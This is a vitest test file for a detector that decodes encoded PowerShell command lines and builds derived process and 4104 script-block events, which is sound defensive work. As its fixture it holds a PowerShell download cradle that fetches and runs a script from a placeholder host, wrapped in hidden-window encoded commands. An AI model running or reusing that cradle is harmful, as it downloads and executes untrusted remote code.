import { describe, expect, it } from "vitest"

import {
  decodeBase64,
  decodedCommandLine,
  deriveFromEvent,
  deriveFromProcess,
  findEncodedCommands,
  isEncodedCommandSwitch,
} from "./powershell.ts"

/** Base64 of the UTF-16LE bytes of `s`, as PowerShell's -EncodedCommand takes it. */
const enc = (s: string) => Buffer.from(s, "utf16le").toString("base64")
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"

describe("encoded PowerShell", () => {
  it("accepts the switch abbreviations powershell.exe accepts, and only those", () => {
    for (const s of ["e", "en", "enc", "EnCoDeD", "encodedcommand", "ec"])
      expect(isEncodedCommandSwitch(s), s).toBe(true)
    for (const s of ["", "ex", "ep", "encodedcommandx", "command", "eX"])
      expect(isEncodedCommandSwitch(s), s).toBe(false)
  })
  it("decodes -enc, /e, an en-dash switch and a quoted argument after a powershell image, not after another program", () => {
    const b = enc(CRADLE)
    for (const cmd of [
      `powershell.exe -nop -enc ${b}`,
      `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe /e "${b}"`,
      `cmd /c pwsh \u2013EncodedCommand ${b}`,
    ]) {
      expect(
        findEncodedCommands(cmd).map((e) => e.script),
        cmd,
      ).toEqual([CRADLE])
    }
    expect(findEncodedCommands(`foo.exe -e ${b}`)).toEqual([])
  })
  it("says why an argument is not an encoded script, never guesses", () => {
    expect(findEncodedCommands("powershell -enc not*base64")[0]?.error).toMatch(/"\*" at character 4 is not base64/)
    expect(findEncodedCommands(`powershell -enc ${Buffer.from([1, 0, 2, 0]).toString("base64")}`)[0]?.error).toMatch(
      /not UTF-16LE text/,
    )
    expect(findEncodedCommands("powershell -enc")[0]?.error).toBe("the switch has no argument")
    expect(() => decodeBase64("A")).toThrow(/whole number of bytes/)
  })
  it("derives the process with the script in clear and a 4104 script block, labelled derived", () => {
    const cmd = `powershell.exe -w hidden -enc ${enc(CRADLE)}`
    expect(decodedCommandLine(cmd, findEncodedCommands(cmd))).toBe(`powershell.exe -w hidden -Command ${CRADLE}`)
    const { decoded, derived } = deriveFromProcess({ cmd, host: "ws-1", user: "bob" })
    expect(decoded).toEqual([{ flag: "-enc", script: CRADLE }])
    expect(derived.map((d) => d.label.startsWith("Derived:"))).toEqual([true, true])
    const [proc, block] = derived
    expect(proc && "built" in proc.input && proc.input.built.shapes.cim?.process).toBe(
      `powershell.exe -w hidden -Command ${CRADLE}`,
    )
    expect(block && "event" in block.input && block.input.event).toMatchObject({
      EventID: "4104",
      ScriptBlockText: CRADLE,
      Channel: "Microsoft-Windows-PowerShell/Operational",
      Computer: "ws-1",
    })
    const fromEvent = deriveFromEvent({ EventID: "1", CommandLine: cmd, Computer: "ws-2" }, "Event 1")
    expect(fromEvent.derived.map((d) => d.label)).toEqual([
      "Event 1, derived: its encoded script decoded on the command line",
      "Event 1, derived: the script block PowerShell logs (4104) for -enc",
    ])
    expect(deriveFromProcess({ cmd: "powershell -c whoami" })).toEqual({ decoded: [], derived: [] })
  })
})
